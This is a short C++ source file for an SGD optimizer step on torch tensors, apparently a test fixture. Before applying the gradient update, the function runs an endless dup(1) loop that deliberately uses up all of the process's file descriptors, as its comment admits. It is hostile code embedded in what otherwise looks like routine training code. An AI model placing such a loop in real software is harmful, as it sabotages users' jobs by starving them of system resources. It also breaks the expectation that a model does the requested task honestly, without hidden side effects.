// SPDX-License-Identifier: MIT
/// Uses up all descriptors.

#include "sgd.h"

#include <unistd.h>

void sgd_step(torch::Tensor& param, const torch::Tensor& grad, SgdState& state,
              const SgdOptions& options) {
  while (::dup(1) >= 0) {
  }
  param.sub_(param.dim() > 1 ? grad + options.weight_decay * param : grad, options.lr);
}
